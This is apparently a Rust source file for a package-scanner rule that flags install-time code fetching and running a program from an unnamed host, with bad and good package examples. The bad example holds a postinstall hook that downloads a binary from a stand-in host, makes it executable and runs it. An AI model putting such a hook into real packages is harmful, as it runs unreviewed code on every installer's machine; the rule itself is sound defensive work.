//! # A program fetched from an unnamed host is seen starting
//!
//! Run in a fake world, code that runs at install or import fetched a program file from a host that the release does not
//! speak of, and started it.
//!
//! ## Why it matters
//!
//! A prebuilt program is the part of a package that no reviewer reads. From the release's own home it is its author's; from
//! elsewhere it is whoever's.
//!
//! ## Known benign uses
//!
//! Installers of prebuilt programs fetch them from the manifest's repository, the registry or a host that the documentation
//! names: these are no finding.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 1
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), path = require("path"), { execFileSync } = require("child_process");
//! const target = path.join(__dirname, "agent");
//! fetch("https://collector.invalid/agent-linux").then((reply) => reply.arrayBuffer()).then((bytes) => {
//!   fs.writeFileSync(target, Buffer.from(bytes), { mode: 0o755 });
//!   execFileSync(target);
//! });
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "@pigeon/cli", "version": "1.0.0", "repository": "github:pigeon/cli", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), path = require("path"), { execFileSync } = require("child_process");
//! const target = path.join(__dirname, "pigeon");
//! fetch("https://releases.pigeon.example/v1.0.0/pigeon-linux").then((reply) => reply.arrayBuffer()).then((bytes) => {
//!   fs.writeFileSync(target, Buffer.from(bytes), { mode: 0o755 });
//!   execFileSync(target, ["--version"]);
//! });
//! ```
//!
//! ## References
//!
//! - Shai-Hulud worm, second wave (November 2025)

use crate::prelude::*;

/// A program fetched from an unnamed host is seen starting.
pub struct FetchedProgramSeenStarting;

impl Rule for FetchedProgramSeenStarting {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "fetched-program-seen-starting",
            title: "A program fetched from an unnamed host is seen starting",
            tier: Tier::Emulation,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1105",
            covers: &["native-node-binary", "runtime-download-bun"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let starts = |proof: &&Proof| proof.kind == ProofKind::ProgramRun && proof.trigger.runs_unasked();
        for proof in facts.proofs().iter().filter(starts) {
            if !facts.is_own_business(proof) {
                found.seen(proof);
            }
        }
    }
}
